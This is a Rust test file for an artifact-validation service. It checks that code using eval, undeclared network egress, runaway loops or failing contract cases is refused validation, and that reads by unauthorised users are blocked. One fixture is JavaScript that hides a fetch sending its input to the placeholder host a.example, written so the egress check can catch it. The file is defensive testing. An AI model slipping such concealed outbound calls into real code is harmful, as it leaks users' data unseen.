//! What keeps an artifact down: each requirement by its name, with the evidence that says so.

use super::Team;
use crate::house::Ask;
use serde_json::{Value, json};

/// Sends `code`, lets it be validated for `profile` in vain, and expects that this requirement alone is missing; what is said of it, and the evidence.
#[track_caller]
fn fails(team: &Team, code: &str, manifest: &Value, profile: &str, requirement: &str) -> (String, Value) {
    let id = team.shelve("agent", code, manifest);
    let missing = team.misses("ann", &id, "validate", &json!({"profile": profile}));
    assert!(missing.len() == 1 && missing[0].0 == requirement, "{requirement}: {missing:?}");
    let shown = team.shown(&id);
    assert_eq!((&shown["tier"], &shown["standing"], &shown["steps"][0]["step"]), (&json!(0), &Value::Null, &json!("failed")), "{shown}");
    assert_eq!(shown["steps"][0]["missing"][0]["requirement"], requirement);
    assert_eq!(shown["steps"][0]["evidence"], shown["evidence"][0]["id"]);
    assert_eq!(team.run("agent", &json!({"artifact": id, "profile": profile})).status, 403);
    (missing[0].1.clone(), shown["evidence"][0]["set"].clone())
}

#[test]
fn what_static_checks_reject_is_not_validated() {
    let team = Team::start();
    let (told, evidence) = fails(&team, "export default (x) => x ? eval(String(x)) : 1", &json!({}), "validated", "staticChecks");
    assert!(told.contains("code.eval"), "{told}");
    assert_eq!((&evidence["checks"]["findings"][0]["severity"], &evidence["checks"]["tier"]), (&json!("reject"), &json!(1)), "{evidence}");
}

#[test]
fn what_was_sent_out_beyond_the_profile_is_not_validated() {
    let team = Team::start();
    // Without input it asks for nothing, so the owner's case is green.
    let code = "const host = ['a', 'example'].join('.');
      export default async (x) => { if (x) { try { await fetch('https://' + host + '/take?what=' + x); } catch {} } return 1; }";
    let id = team.shelve("agent", code, &json!({}));
    assert_eq!(team.run("agent", &json!({"artifact": id, "input": "all"})).json()["outcome"], "ok");
    let (told, evidence) = fails(&team, code, &json!({}), "validated", "egress");
    assert!(told.contains("https://a.example/take") && !told.contains("what=all"), "{told}");
    assert_eq!(evidence["egress"]["attempts"][0]["method"], "GET", "{evidence}");
}

#[test]
fn a_case_that_is_red_is_not_validated_whoever_wrote_it() {
    let team = Team::start();
    let (told, evidence) = fails(&team, "export default () => { for (;;); }", &json!({}), "validated", "contractCases");
    assert!(told.contains("exceededCpu"), "{told}");
    assert_eq!(
        (&evidence["cases"][0]["owner"], &evidence["cases"][0]["outcome"]),
        (&json!("profile"), &json!("exceededCpu")),
        "{evidence}"
    );
    let own =
        json!({"cases": [{"name": "two", "input": 1, "expect": {"result": 2}}, {"name": "four", "input": 2, "expect": {"result": 4}}]});
    let (told, evidence) = fails(&team, "export default (x) => x + 1", &own, "validated", "artifactCases");
    assert!(told.contains("`four`") && told.contains("its result is 3, not 4"), "{told}");
    let owners: Vec<_> = evidence["cases"].as_array().expect("cases").iter().map(|case| case["owner"].clone()).collect();
    assert_eq!(owners, ["profile", "artifact", "artifact"]);
    let id = team.shelve("agent", "export default (x) => x * 2", &json!({"cases": [own["cases"][1]]}));
    team.takes("ann", &id, "validate", &json!({}));
}

#[test]
fn a_profile_without_cases_validates_nothing_whatever_came_along() {
    let team = Team::start();
    let own = json!({"cases": [{"name": "one", "expect": {"result": 1}}]});
    let (told, _) = fails(&team, "export default 1", &own, "bare", "contractCases");
    assert!(told.contains("`bare` wrote no contract case"), "{told}");
}

#[test]
fn cases_that_somebody_sends_later_keep_nothing_down() {
    let team = Team::start();
    let own = |result: u64| json!({"cases": [{"name": "one", "input": 1, "expect": {"result": result}}]});
    let code = "export default (x) => x ?? 0";
    let id = team.shelve("agent", code, &own(1));
    team.shelve("ben", code, &own(2));
    team.takes("ann", &id, "validate", &json!({}));
    assert_eq!(team.shown(&id)["submissions"].as_array().map(Vec::len), Some(2));
}

#[test]
fn a_step_names_a_profile_of_its_tier_and_an_artifact_that_is_there() {
    let team = Team::start();
    let id = team.shelve("agent", "export default 1", &json!({}));
    for (step, profile) in [("validate", "production"), ("promote", "validated"), ("validate", "none"), ("promote", "untrusted")] {
        let reply = team.step("olga", &id, step, &json!({"profile": profile}));
        assert_eq!((reply.status, &reply.json()["code"]), (400, &json!("invalidRequest")), "{step} {profile}");
    }
    let nobodys = format!("sha256:{}", "0".repeat(64));
    assert_eq!(team.step("olga", &nobodys, "validate", &json!({})).status, 404);
    assert_eq!(team.step("olga", "sha256:00", "validate", &json!({})).status, 400);
    // Who may not read an artifact is not told whether there is one.
    let read = |id: &str| team.ask("agent", Ask::get(&format!("/v1/artifacts/{id}"))).status;
    let other = team.shelve("ann", "export default 2", &json!({}));
    assert_eq!((read(&id), read(&other), read(&nobodys)), (200, 403, 403));
    assert_eq!(team.ask("ann", Ask::get(&format!("/v1/artifacts/{id}?include=sources"))).json()["modules"]["main.ts"], "export default 1");
}
